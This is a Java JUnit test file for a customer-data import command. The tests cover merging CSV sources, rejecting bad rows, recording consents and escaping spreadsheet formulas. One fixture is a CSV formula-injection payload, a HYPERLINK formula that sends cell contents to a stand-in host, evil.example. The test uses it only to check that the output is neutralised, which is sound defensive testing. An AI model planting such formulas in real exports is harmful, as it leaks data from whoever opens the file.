package io.recall.examples.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

class ImportCommandTest {

    @TempDir
    Path dir;

    private SegmentCommandTest.Run run(String... args) {
        return SegmentCommandTest.run(args);
    }

    @Test
    void importsTwoSourcesAndTheMergedResultCanBeSegmented() throws IOException {
        Files.writeString(dir.resolve("web.csv"), """
                customer,order,at,amount
                w1,A-1,2024-05-03T10:15:00Z,9.00
                w1,A-2,2024-05-04T10:15:00Z,19.90
                w2,A-3,2024-05-05T10:15:00Z,4.50
                w3,A-4,not a date,4.50
                """);
        Files.writeString(dir.resolve("members.csv"), """
                member,mobile,web
                M1,07911 123456,online:w1
                M2,+44 7911 123456,
                """);
        Files.writeString(dir.resolve("sources.json"), """
                {"sources": [
                  {"name": "online", "kind": "orders", "file": "web.csv", "currency": "GBP",
                   "columns": {"customerId": "customer", "orderId": "order", "at": "at", "amount": "amount"}},
                  {"name": "members", "kind": "profiles", "file": "members.csv",
                   "columns": {"id": "member", "phone": "mobile", "memberId": "member", "linkedId": "web"}}],
                 "identity": {"defaultRegion": "GB"}}""");
        Path out = dir.resolve("out");
        SegmentCommandTest.Run r = run("import", "--config", dir.resolve("sources.json").toString(),
                "--output-dir", out.toString(), "--summary-json", dir.resolve("import.json").toString());
        assertEquals(0, r.exit(), r.err());
        assertTrue(r.out().contains("all sources      read         6 = accepted 5 + merged 0 + rejected 1"), r.out());
        JsonNode s = new ObjectMapper().readTree(dir.resolve("import.json").toFile());
        assertEquals(1, s.get("sources").get("online").get("rejectedByReason").get("unparsable-date").asInt());
        assertEquals(5, s.get("sources").get("online").get("rejectedSamples").get(0).get("line").asInt());
        // M1 and M2 share a mobile written two ways: one person, who also owns web account w1.
        List<String> customers = Files.readAllLines(out.resolve("customers.csv"));
        assertEquals(2, customers.size(), customers.toString());
        assertTrue(customers.get(1).startsWith("members:M1,,,+447911123456,M1"), customers.get(1));
        assertTrue(customers.get(1).contains(",online:w1,"), customers.get(1));

        Path summary = dir.resolve("segment.json");
        SegmentCommandTest.Run seg = run("segment", "--input", out.resolve("orders.csv").toString(), "--format", "generic",
                "--scheme", "seed4", "--summary-json", summary.toString());
        assertEquals(0, seg.exit(), seg.err());
        JsonNode segmented = new ObjectMapper().readTree(summary.toFile());
        assertEquals(2, segmented.get("customers").asInt(), "members:M1 (with w1's orders) and online:w2");
    }

    @Test
    void aBrokenConfigurationNamesItsJsonPath() throws IOException {
        Files.writeString(dir.resolve("sources.json"), """
                {"sources": [{"name": "online", "kind": "orders", "file": "web.csv",
                  "columns": {"customerId": "c", "orderId": "o", "at": "t"}}]}""");
        SegmentCommandTest.Run r = run("import", "--config", dir.resolve("sources.json").toString());
        assertEquals(1, r.exit());
        assertTrue(r.err().contains("$.sources[0].columns.amount") && r.err().contains("$.sources[0].currency"), r.err());
    }

    @Test
    void viewsInteractionsAndConsentsAreWrittenPerPerson() throws IOException {
        Files.writeString(dir.resolve("members.csv"), """
                member,name,country,news,news_at
                M1,  JANA  NOVAK ,germany,yes,2024-03-01T00:00:00Z
                M2,Ole,Atlantis,no,
                """);
        Files.writeString(dir.resolve("views.csv"), """
                member,sku,at,seconds
                M1,SOCKS,2024-05-01T10:00:00Z,12.5
                M1,SOCKS,2024-05-01T10:00:00Z,12.5
                """);
        Files.writeString(dir.resolve("tickets.csv"), """
                member,ticket,at,type,status
                M1,T-1,2024-05-05T09:00:00Z,complaint,open
                M2,T-2,2024-05-06T09:00:00Z,complaint,resolved
                """);
        Files.writeString(dir.resolve("sources.json"), """
                {"sources": [
                  {"name": "members", "kind": "profiles", "file": "members.csv", "titleCaseNames": true,
                   "columns": {"id": "member", "name": "name", "country": "country"},
                   "consents": {"email": {"status": "news", "at": "news_at"}}},
                  {"name": "app", "kind": "views", "file": "views.csv", "customersFrom": "members",
                   "columns": {"customerId": "member", "sku": "sku", "at": "at", "dwell": "seconds"}},
                  {"name": "desk", "kind": "interactions", "file": "tickets.csv", "customersFrom": "members",
                   "columns": {"customerId": "member", "id": "ticket", "at": "at", "type": "type", "status": "status"}}]}""");
        Path out = dir.resolve("out");
        SegmentCommandTest.Run r = run("import", "--config", dir.resolve("sources.json").toString(),
                "--output-dir", out.toString(), "--summary-json", dir.resolve("import.json").toString());
        assertEquals(0, r.exit(), r.err());
        assertTrue(r.out().contains("read         6 = accepted 5 + merged 1 + rejected 0"), r.out());
        assertEquals(List.of("customer_id,sku,viewed_at,dwell_seconds", "members:M1,SOCKS,2024-05-01T10:00:00Z,12.5"),
                Files.readAllLines(out.resolve("views.csv")));
        List<String> interactions = Files.readAllLines(out.resolve("interactions.csv"));
        assertEquals("members:M1,desk:T-1,complaint,2024-05-05T09:00:00Z,,open,,,desk,", interactions.get(1));
        List<String> customers = Files.readAllLines(out.resolve("customers.csv"));
        assertTrue(customers.get(0).endsWith(",aliases,country,open_complaints"), customers.get(0));
        assertTrue(customers.get(1).startsWith("members:M1,Jana Novak,") && customers.get(1).endsWith(",DE,1"), customers.get(1));
        assertTrue(customers.get(2).endsWith(",,0"), "Atlantis is no country: " + customers.get(2));
        assertEquals(List.of("customer_id,channel,status,at,source,record_id",
                        "members:M1,email,granted,2024-03-01T00:00:00Z,members,M1",
                        "members:M2,email,withdrawn," + "1970-01-01T00:00:00Z,members,M2"),
                Files.readAllLines(out.resolve("consents.csv")).stream().map(l -> l.startsWith("members:M2")
                        ? l.replaceFirst(",withdrawn,[^,]+,", ",withdrawn,1970-01-01T00:00:00Z,") : l).toList(),
                "without a time the statement dates from when the row was read (the clock)");
        JsonNode s = new ObjectMapper().readTree(dir.resolve("import.json").toFile());
        assertEquals(1, s.get("views").asInt());
        assertEquals(1, s.get("openComplaints").asInt());
        assertEquals(1, s.get("sources").get("members").get("fieldsRejected").get("country").asInt());
        assertEquals(3, s.get("sources").get("members").get("fieldSamples").get(0).get("line").asInt());
    }

    @Test
    void namesThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() throws IOException {
        Files.writeString(dir.resolve("members.csv"), """
                member,name
                M1,=HYPERLINK("http://evil.example/?x"&A1)
                M2,"Novak, Jana"
                """);
        Files.writeString(dir.resolve("sources.json"), """
                {"sources": [{"name": "members", "kind": "profiles", "file": "members.csv",
                              "columns": {"id": "member", "name": "name"}}]}""");
        Path out = dir.resolve("out");
        SegmentCommandTest.Run r = run("import", "--config", dir.resolve("sources.json").toString(),
                "--output-dir", out.toString(), "--summary-json", dir.resolve("import.json").toString());
        assertEquals(0, r.exit(), r.err());
        List<String> customers = Files.readAllLines(out.resolve("customers.csv"));
        assertTrue(customers.get(1).startsWith("members:M1,\"'=HYPERLINK(\"\"http://evil.example/?x\"\"&A1)\","),
                customers.get(1));
        assertTrue(customers.get(2).startsWith("members:M2,\"Novak, Jana\","), customers.get(2));
    }
}
